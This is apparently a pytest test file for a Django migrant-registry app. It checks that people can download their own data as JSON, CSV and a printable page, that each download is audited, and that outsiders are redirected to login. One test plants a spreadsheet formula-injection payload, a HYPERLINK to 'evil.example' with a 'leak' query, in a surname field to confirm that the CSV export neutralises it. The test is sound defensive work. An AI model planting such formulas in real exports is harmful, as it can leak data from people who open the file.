"""A migrant downloads everything held about them: JSON, a spreadsheet-safe CSV and a readable
page. Each download is written to the audit trail."""

from __future__ import annotations

import csv
import io
import json

from django.urls import reverse

from mekendesh.audit.models import AuditEvent
from mekendesh.people.models import NameForm, Script
from mekendesh.people.services import NameInput, name_add

FORMULA = '=HYPERLINK("http://evil.example/?leak","Click me")'


def exports_of(person):
    return AuditEvent.objects.filter(person_id=str(person.public_id), action="export")


def test_the_json_download_holds_names_documents_stays_and_consents(client, aigerim):
    response = client.get(reverse("migrant:export_json"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["Content-Disposition"].startswith('attachment; filename="mekendesh-my-data-')
    data = json.loads(response.content)
    assert data["public_id"] == str(aigerim.public_id)
    assert {(n["script"], n["surname"]) for n in data["names"]} == {
        ("ky-Cyrl", "Токтосунова"),
        ("Latn-ICAO", "TOKTOSUNOVA"),
    }
    assert [d["number"] for d in data["documents"]] == ["AC1234567"]
    assert [(s["country"], s["employer"], s["status"]) for s in data["stays"]] == [("RU", "ООО «Стройка»", "declared")]
    assert {c["purpose"] for c in data["consents"]} == {"register", "reminders"}
    assert any(event["action"] == "create" and event["by"] == "self" for event in data["history"])


def test_each_download_writes_an_export_row_to_the_audit_trail(client, aigerim):
    client.get(reverse("migrant:export_json"))
    client.get(reverse("migrant:export_page"))
    client.get(reverse("migrant:export_csv"))
    rows = list(exports_of(aigerim))
    assert len(rows) == 3
    assert all(row.actor == aigerim.account and row.object_type == "people.person" for row in rows)
    assert [row.path for row in rows] == [
        reverse("migrant:export_json"),
        reverse("migrant:export_page"),
        reverse("migrant:export_csv"),
    ]


def test_the_readable_page_shows_the_full_record_and_can_be_printed(client, aigerim):
    page = client.get(reverse("migrant:export_page")).content.decode()
    assert "AC1234567" in page and "Токтосунова Айгерим Асан кызы" in page
    assert "@media print" in page and "Who has seen or changed your data" in page


def test_a_formula_in_a_name_is_kept_as_typed_and_neutralised_in_the_csv(client, aigerim):
    with_formula = name_add(
        actor=aigerim.account,
        person=aigerim,
        name=NameInput(script=Script.OTHER_LATIN, surname=FORMULA, given_names="Aigerim"),
    )
    assert NameForm.objects.get(pk=with_formula.pk).surname == FORMULA

    assert any(
        name["surname"] == FORMULA for name in json.loads(client.get(reverse("migrant:export_json")).content)["names"]
    )

    response = client.get(reverse("migrant:export_csv"))
    assert response["Content-Disposition"].endswith('.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [value for _, value in rows[1:]]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert ["names[1].surname", "Токтосунова"] in rows


def test_the_outsider_cannot_download_anything(client, registered_migrant):
    for name in ("export_json", "export_csv", "export_page"):
        response = client.get(reverse(f"migrant:{name}"))
        assert response.status_code == 302 and reverse("account_login") in response.url
    assert not exports_of(registered_migrant).exists()
